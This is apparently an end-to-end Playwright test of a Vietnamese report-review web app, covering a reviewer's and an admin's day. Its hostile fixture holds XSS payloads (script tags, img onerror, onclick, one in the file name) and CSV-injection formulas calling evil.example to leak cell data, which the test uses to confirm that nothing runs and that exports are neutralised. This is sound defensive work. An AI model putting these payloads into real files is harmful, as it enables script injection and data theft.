"""A reviewer's and an admin's whole day (issue 15, "Also"), as one story in a real headless
Chromium against a real uvicorn server, over SQLite and over PostgreSQL (``db_url``). Fixtures and skip rules:
tests/test_review_e2e.py (``browser``).

Nothing is seeded behind the app's back: the corpus seeds, the demo report, a corpus PDF and a
hostile HTML page (``<script>`` and ``=HYPERLINK(...)`` in its title and text, quotes and an
``<img onerror>`` in its file name) are stored by the real ``baocao ingest``, the accounts
made by the real ``baocao users add``. Then, in the browser:

admin:    logs in, sees the unplaced documents, corrects one's place, assigns another to chi;
chi:      sees exactly the documents of her place and her assignment, searches the queue,
          opens the demo report, corrects with the keyboard (save-and-next), accepts, rejects
          with a reason, skips, undoes, accepts the rest of a section, comments, is refused on
          a fact the admin changed meanwhile (her typed value kept) and saves again on
          purpose, marks the document reviewed; opens the hostile document (no dialog, no
          script or CSP error) and exports it (no live formula in the CSV);
admin:    statistics and history in Vietnamese without hashes, a second review (agree and
          disagree), the login attempts after a few wrong passwords, logout (going back or
          reopening a page image shows the login, nothing from the cache).
Each step asserts on what the page shows.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from baocao.review.app import create_app
from baocao.review.demo import Server, write_demo_report
from baocao.store.db import session_scope
from baocao.store.models import DocumentRow
from tests.review_support import PDF, SEEDS
from tests.test_review_e2e import browser  # noqa: F401

pytest_plugins = ["tests.conftest_db"]

PASSWORD = "Rà-soát-cả-ngày-2026"
HOSTILE_NAME = "bao\"cao<img src=x onerror=alert(7)>'.html"
HOSTILE = """<!doctype html><html><head><meta charset="utf-8">
<title>=HYPERLINK("http://evil.example/?d="&A2,"Xem") <script>alert(1)</script></title>
<script>alert(2)</script></head><body>
<p>ỦY BAN NHÂN DÂN HUYỆN ĐẮK SONG</p>
<p>Số: 77/BC-UBND</p>
<p>Đắk Song, ngày 5 tháng 10 năm 2023</p>
<p>BÁO CÁO</p>
<p>=HYPERLINK("http://evil.example/?d="&amp;A2,"Xem") &lt;script&gt;alert(3)&lt;/script&gt;</p>
<p>1. Kết quả</p>
<p>=HYPERLINK("http://evil.example/","x") Tổng số hồ sơ tiếp nhận 1.200 hồ sơ, trong đó đúng
hạn 1.100 hồ sơ, quá hạn 100 hồ sơ.</p>
<p onclick="alert(4)">@SUM(1+1) Ghi chú &lt;img src=x onerror=alert(5)&gt; 45 hồ sơ</p>
</body></html>
"""
DEMO = "bao_cao_thu_tuc_hanh_chinh.txt"
HASH = re.compile(r"\b(?=[0-9]*[a-f])[0-9a-f]{7,}\b")   # a hash prefix: hex with a letter
REFUSED = re.compile(r"^Failed to load resource: the server responded with a status of (4\d\d)")
CSP_WATCH = """window.__csp = [];
document.addEventListener('securitypolicyviolation',
    (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"""


def baocao(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    """The real command line, as an operator runs it."""
    exe = Path(sys.executable).with_name("baocao")
    command = [str(exe)] if exe.is_file() else [sys.executable, "-m", "baocao.cli"]
    return subprocess.run([*command, *args], input=stdin, capture_output=True, text=True,
                          timeout=300, check=False)


@dataclass
class Day:
    base: str
    url: str
    ids: dict[str, int]   # file name → document id
    browser: Any
    dialogs: list[tuple[str, str]] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    contexts: list[Any] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)   # "who status" of each 4xx answer

    def tab(self, who: str, width: int = 1366, height: int = 900) -> Any:
        """A fresh browser context (its own cookies), watched for dialogs and errors."""
        context = self.browser.new_context(viewport={"width": width, "height": height},
                                           accept_downloads=True)
        context.add_init_script(CSP_WATCH)
        self.contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(15_000)

        def dialog(d: Any) -> None:
            self.dialogs.append((d.type, d.message))
            # the only dialog the app may raise here: "accept the rest of this section?"
            d.accept() if d.type == "confirm" and d.message.startswith("Chấp nhận") \
                else d.dismiss()

        def console(m: Any) -> None:
            refused = REFUSED.search(m.text)
            if refused:   # Chromium logs every 4xx answer; the story expects a few
                self.refused.append(f"{who} {refused[1]}")
            elif m.type == "error":
                self.errors.append(f"{who}: {m.text}")

        page.on("dialog", dialog)
        page.on("console", console)
        page.on("pageerror", lambda e: self.errors.append(f"{who}: {e}"))
        return page

    def csp(self, page: Any) -> list[str]:
        return list(page.evaluate("window.__csp || []"))


@pytest.fixture
def day(browser: Any, tmp_path: Path, db_url: str) -> Iterator[Day]:  # noqa: F811
    folder = tmp_path / "inbox"
    folder.mkdir()
    for seed in SEEDS:
        shutil.copy(seed, folder / seed.name)
    shutil.copy(PDF, folder / PDF.name)
    write_demo_report(folder)
    (folder / HOSTILE_NAME).write_text(HOSTILE, encoding="utf-8")
    url = db_url

    done = baocao("ingest", str(folder), "--db", url, "--workers", "0", "--quiet")
    assert done.returncode == 0, done.stderr
    refused = baocao("users", "add", "an", "--role", "admin", "--all-places", "--password-stdin",
                     "--db", url, stdin=PASSWORD + "\n")
    assert refused.returncode == 2 and "every place" in refused.stderr  # admins see all anyway
    made = baocao("users", "add", "an", "--role", "admin", "--password-stdin", "--db", url,
                  stdin=PASSWORD + "\n")
    assert made.returncode == 0, made.stderr
    made = baocao("users", "add", "chi", "--role", "reviewer", "--places", "dak song", "--yes",
                  "--password-stdin", "--db", url, stdin=PASSWORD + "\n")
    assert made.returncode == 0, made.stderr
    assert "'dak song' is 'Đắk Song'" in made.stderr  # matched without diacritics, said so
    listed = baocao("users", "list", "--db", url)
    assert re.search(r"chi\s+reviewer\s+active\s+Đắk Song", listed.stdout), listed.stdout

    with session_scope(url) as session:
        ids = {Path(r.path).name: r.id for r in session.scalars(select(DocumentRow))}
    assert len(ids) == len(SEEDS) + 3, ids
    with Server(create_app(url)) as base:
        d = Day(base, url, ids, browser)
        yield d
        for context in d.contexts:
            context.close()


def log_in(page: Any, base: str, name: str) -> None:
    page.goto(base + "/")
    page.wait_for_url(re.compile(r"/login"))
    page.fill("#name", name)
    page.fill("#password", PASSWORD)
    page.click("#login")
    page.wait_for_selector("#who")


def listed(page: Any) -> set[int]:
    """Every document (row or grouped rendering) the queue lists."""
    return {int(d) for d in page.locator(
        "#queue tbody tr[data-doc], #queue li[data-rendering]").evaluate_all(
        "els => els.map(e => e.dataset.doc || e.dataset.rendering)")}


def fact(page: Any, f: str) -> Any:
    return page.locator(f'#facts-panel li.fi[data-f="{f}"]')


def test_a_whole_day_of_review(day: Day) -> None:
    from playwright.sync_api import expect

    base, ids = day.base, day.ids
    doc = {name.split(".")[0] if name[0].isdigit() and name.endswith(".txt") else name: i
           for name, i in ids.items()}
    demo, hostile, pdf = ids[DEMO], ids[HOSTILE_NAME], ids[PDF.name]

    # ── morning, the admin: unplaced documents, a place corrected, one assigned ──────────
    admin = day.tab("an")
    log_in(admin, base, "an")
    expect(admin.locator("#who")).to_contain_text("an")
    admin.click("#to-unplaced")
    expect(admin.locator("h1")).to_contain_text("chưa rõ địa bàn")
    unplaced = {int(x) for x in admin.locator("#unplaced tbody tr[data-doc]").evaluate_all(
        "els => els.map(e => e.dataset.doc)")}
    assert unplaced == {doc["000_823effeef226c2f0"], doc["002_5ad6a5fc7af788d2"],
                        doc["003_93ee7d9315423c01"]}
    placed, assigned = doc["000_823effeef226c2f0"], doc["002_5ad6a5fc7af788d2"]
    admin.locator(f'#unplaced tr[data-doc="{placed}"] a.meta-link').click()
    expect(admin.locator("#m-place")).to_have_value("")
    admin.fill("#m-place", "dak song")
    admin.fill("#m-reason", "địa bàn ở phần ký")
    admin.click("#meta-save")
    expect(admin.locator("#meta-saved")).to_be_visible()
    expect(admin.locator("#m-place")).to_have_value("Đắk Song")   # the known place's spelling
    admin.goto(base + "/admin/unplaced")
    expect(admin.locator(f'#unplaced tr[data-doc="{placed}"]')).to_have_count(0)
    row = admin.locator(f'#unplaced tr[data-doc="{assigned}"]')
    row.locator("form.assign select").select_option(label="chi")
    row.locator("form.assign button").click()
    expect(admin.locator(f'#unplaced tr[data-doc="{assigned}"] .assignee')).to_have_text("chi")

    # ── chi: her queue holds exactly her place's documents and her assignment ────────────
    chi = day.tab("chi")
    log_in(chi, base, "chi")
    expect(chi.locator("#who")).to_contain_text("chi")
    visible = {placed, assigned, doc["004_1ab22aee8a00dbb0"], pdf, demo, hostile}
    assert listed(chi) == visible
    hostile_row = chi.locator(f'#queue tr[data-doc="{hostile}"]')
    expect(hostile_row).to_contain_text("<script>alert(3)</script>")  # the title, as text
    expect(hostile_row.locator(".path").first).to_contain_text(HOSTILE_NAME)
    chi.fill("#f-q", "BC-NV")
    chi.press("#f-q", "Enter")
    chi.wait_for_url(re.compile(r"q=BC-NV"))
    expect(chi.locator("#f-q")).to_have_value("BC-NV")
    assert listed(chi) == {demo, doc["004_1ab22aee8a00dbb0"], pdf}  # the .txt and .pdf
    chi.fill("#f-q", "")
    chi.press("#f-q", "Enter")
    chi.wait_for_url(re.compile(r"q=(&|$)"))
    assert listed(chi) == visible

    # ── chi reviews the demo report with the keyboard ────────────────────────────────────
    chi.locator(f'#queue tr[data-doc="{demo}"] a.doclink').click()
    chi.wait_for_selector("#doctext")
    expect(chi.locator("#doc-title")).to_contain_text("Kết quả giải quyết thủ tục hành chính")
    chi.evaluate("window.__same_page = 1")
    total = int(chi.inner_text("#n-total"))
    expect(chi.locator("#n-decided")).to_have_text("0")
    expect(chi.locator("#failed-count")).to_have_text("2 kiểm tra sai")
    chi.locator("#m-f7").click()
    expect(chi.locator("#e-value")).to_have_value("180")
    chi.keyboard.press("e")
    chi.keyboard.type("150")
    chi.keyboard.press("Enter")                      # correct: saved and the next fact shown
    expect(fact(chi, "f7")).to_have_attribute("data-status", "corrected")
    expect(chi.locator('#rerun li.chg[data-rule="sum"]')).to_have_attribute("data-after", "pass")
    expect(chi.locator("#failed-count")).to_have_text("1 kiểm tra sai")
    expect(chi.locator("#n-decided")).to_have_text("1")
    expect(chi.locator("#e-id")).to_have_text("f8")
    chi.keyboard.press("a")                          # accept f8, on to f9
    expect(fact(chi, "f8")).to_have_attribute("data-status", "accepted")
    expect(chi.locator("#e-id")).to_have_text("f9")
    chi.keyboard.press("x")                          # reject f9 with a reason
    expect(chi.locator("#e-reason")).to_be_focused()
    chi.keyboard.type("trùng số liệu tổng")
    chi.keyboard.press("Enter")
    expect(fact(chi, "f9")).to_have_attribute("data-status", "rejected")
    expect(chi.locator("#n-decided")).to_have_text("3")
    expect(chi.locator("#e-id")).to_have_text("f10")
    chi.keyboard.press("s")                          # skip f10: nothing decided
    expect(chi.locator("#e-id")).to_have_text("f11")
    expect(fact(chi, "f10")).to_have_attribute("data-status", "extracted")
    chi.keyboard.press("u")                          # undo: the reject of f9
    expect(fact(chi, "f9")).to_have_attribute("data-status", "extracted")
    expect(chi.locator("#e-id")).to_have_text("f9")
    expect(chi.locator("#n-decided")).to_have_text("2")
    expect(fact(chi, "f8")).to_have_attribute("data-status", "accepted")

    section = chi.locator('#facts-list div.group[data-section="I. > 1."]')
    expect(section.locator("button.rest-btn")).to_have_text("Chấp nhận 3 còn lại")
    section.locator("button.rest-btn").click()       # confirm dialog accepted by the watcher
    for f in ("f1", "f2", "f3"):
        expect(fact(chi, f)).to_have_attribute("data-status", "accepted")
    expect(chi.locator("#n-decided")).to_have_text("5")
    expect(section.locator("button.rest-btn")).to_have_count(0)

    chi.locator("#m-f7").click()
    chi.locator("#e-comments summary").click()
    chi.fill("#c-body", "đối chiếu với sổ theo dõi: 150")
    chi.click("#c-add")
    expect(chi.locator("#c-list li")).to_have_count(1)
    expect(chi.locator("#c-list li p")).to_have_text("đối chiếu với sổ theo dõi: 150")
    expect(chi.locator("#c-count")).to_have_text("1")

    # ── a conflicting edit: the admin saves f10 first; chi's typed value is kept ─────────
    admin.goto(f"{base}/doc/{demo}")
    admin.locator("#m-f10").click()
    admin.keyboard.press("e")
    admin.keyboard.type("96")
    admin.keyboard.press("Enter")
    expect(fact(admin, "f10")).to_have_attribute("data-status", "corrected")
    chi.locator("#m-f10").click()                    # chi's page still shows version 0
    chi.keyboard.press("e")
    chi.keyboard.type("95,6")
    chi.keyboard.press("Enter")
    expect(chi.locator("#e-error")).to_contain_text("an đã sửa")
    expect(chi.locator("#e-id")).to_have_text("f10")
    expect(chi.locator("#e-value")).to_have_value("95,6")
    expect(chi.locator("#e-version")).to_have_value("1")
    chi.focus("#e-value")
    chi.keyboard.press("Enter")                      # saving again is deliberate
    expect(fact(chi, "f10")).to_have_attribute("data-v", "2")
    expect(fact(chi, "f10")).to_have_attribute("data-status", "corrected")
    expect(chi.locator("#n-decided")).to_have_text("6")
    assert chi.evaluate("window.__same_page") == 1   # every decision without a page load
    assert int(chi.inner_text("#n-total")) == total

    chi.click("#mark-reviewed")
    chi.wait_for_load_state()
    expect(chi.locator("#review-state")).to_have_attribute("data-state", "reviewed")
    expect(chi.locator("#review-state")).to_have_text("đã rà soát")
    assert day.csp(chi) == []

    # ── the hostile document: shown as text, nothing runs; its CSV holds no formula ──────
    chi.goto(f"{base}/doc/{hostile}")
    chi.wait_for_selector("#doctext")
    expect(chi.locator("#doc-title")).to_contain_text('=HYPERLINK("http://evil.example/')
    expect(chi.locator("#doc-title")).to_contain_text("<script>alert(3)</script>")
    text = chi.inner_text("#doctext")
    assert "<img src=x onerror=alert(5)>" in text and "<script>alert(3)</script>" in text
    chi.locator("#doctext mark.fact").first.click()
    expect(chi.locator("#editor")).to_be_visible()
    assert chi.locator("#doctext script, #doctext img, [onclick], [onerror]").count() == 0
    with chi.expect_download() as download:
        chi.click("#doc-export")
    rows = list(csv.reader(Path(download.value.path()).open(encoding="utf-8")))
    cells = [c for r in rows[1:] for c in r]
    assert len(rows) == 1 + 4, rows[0]                   # the four facts
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert any(c.startswith("'@SUM") or "@SUM" in c for c in cells)
    live = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
            or (c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c))]
    assert live == []
    assert day.csp(chi) == []

    # ── afternoon, the admin: statistics, history, second review ─────────────────────────
    admin.goto(base + "/admin/stats")
    me = admin.locator('#stats tbody tr[data-reviewer="chi"]')
    expect(me.locator(".k-accept")).to_have_text("4")    # f8, and f1-f3 at once
    expect(me.locator(".k-edit")).to_have_text("2")      # f7, f10
    expect(me.locator(".k-reject")).to_have_text("0")    # undone
    expect(admin.locator("h1")).to_contain_text("Thống kê người rà soát")

    admin.goto(f"{base}/doc/{demo}/history")
    body = admin.inner_text("main")
    for words in ("chi", "an", "180", "150", "đối chiếu", "đã rà soát"):
        assert words in body, words
    assert HASH.search(body) is None, HASH.search(body)
    assert not re.search(r"correction\.|review\.|session\.|unreviewed|needs_review", body)
    admin.goto(base + "/history")
    body = admin.inner_text("main")
    assert "chi" in body and HASH.search(body) is None, HASH.search(body)
    assert not re.search(r"correction\.|review\.|session\.", body)

    admin.click("#nav-second")
    expect(admin.locator("h1")).to_contain_text("Rà soát lần hai")
    items = admin.locator("section.second")
    mine = items.filter(has=admin.locator(".author", has_text="chi"))
    expect(mine).to_have_count(2)                        # f7 and f10 edited by chi
    assert admin.locator("section.second .author", has_text="an").count() == 0  # not her own
    first = mine.filter(has_text="150")
    first.locator("button[value=agree]").click()
    expect(admin.locator("section.second")).to_have_count(1)
    left = admin.locator("section.second")
    left.locator("button[value=disagree]").click()       # a disagreement needs a reason
    expect(admin.locator("#second-error")).to_be_visible()
    expect(admin.locator("section.second")).to_have_count(1)
    admin.locator("section.second input[name=reason]").fill("nguồn ghi 96%")
    admin.locator("section.second button[value=disagree]").click()
    expect(admin.locator("#no-second")).to_be_visible()
    admin.goto(base + "/admin/stats")
    expect(me.locator(".judged")).to_have_text("2")
    expect(me.locator(".agreement")).to_have_text("50,0 %")
    expect(admin.locator('#stats tbody tr[data-reviewer="an"] .given')).to_have_text("2")

    # ── wrong passwords, then the login attempts page ────────────────────────────────────
    stranger = day.tab("stranger")
    stranger.goto(base + "/login")
    for name in ("chi", "chi", "chi", "ke-gian"):
        stranger.fill("#name", name)
        stranger.fill("#password", "sai-mat-khau-roi")
        stranger.click("#login")
        expect(stranger.locator("#login-error")).to_be_visible()
    expect(stranger.locator("#who")).to_have_count(0)
    admin.click("#nav-logins")
    expect(admin.locator("h1")).to_have_text("Nhật ký đăng nhập")
    admin.check("#login-filters input[name=failed]")
    admin.click("#login-filters button[type=submit]")
    admin.wait_for_url(re.compile(r"failed=1"))
    failed = admin.locator("#logins tbody tr.failed")
    expect(failed).to_have_count(4)
    expect(failed.filter(has_text="chi").filter(has_text="sai mật khẩu")).to_have_count(3)
    expect(failed.filter(has_text="ke-gian").filter(
        has_text="không có tài khoản này")).to_have_count(1)
    expect(failed.first).to_contain_text("127.0.0.1")
    expect(admin.locator("#logins tbody tr.ok")).to_have_count(0)

    # ── logout: nothing of the day is served from the cache afterwards ───────────────────
    image = admin.request.get(f"{base}/doc/{pdf}/page/1")   # the browser's cookies
    assert image.status == 200
    assert image.headers["content-type"].startswith("image/")
    assert "no-store" in image.headers["cache-control"]
    admin.goto(f"{base}/doc/{demo}")
    admin.wait_for_selector("#doctext")
    admin.click("#logout")
    admin.wait_for_url(re.compile(r"/login"))
    admin.go_back()
    expect(admin.locator("#login")).to_be_visible()     # the page again, asked anew: login
    expect(admin.locator("#doctext")).to_have_count(0)
    again = admin.request.get(f"{base}/doc/{pdf}/page/1", max_redirects=0)
    assert again.status in (303, 401) and not again.headers.get(
        "content-type", "").startswith("image/")

    assert day.dialogs == [("confirm", "Chấp nhận 3 số liệu chưa xử lý của mục này?")]
    assert day.errors == []
    assert sorted(day.refused) == ["an 422",   # a disagreement without its reason
                                   "chi 409",  # the conflicting edit
                                   *["stranger 401"] * 4]  # the wrong passwords
    for page in (admin, chi, stranger):
        assert day.csp(page) == []
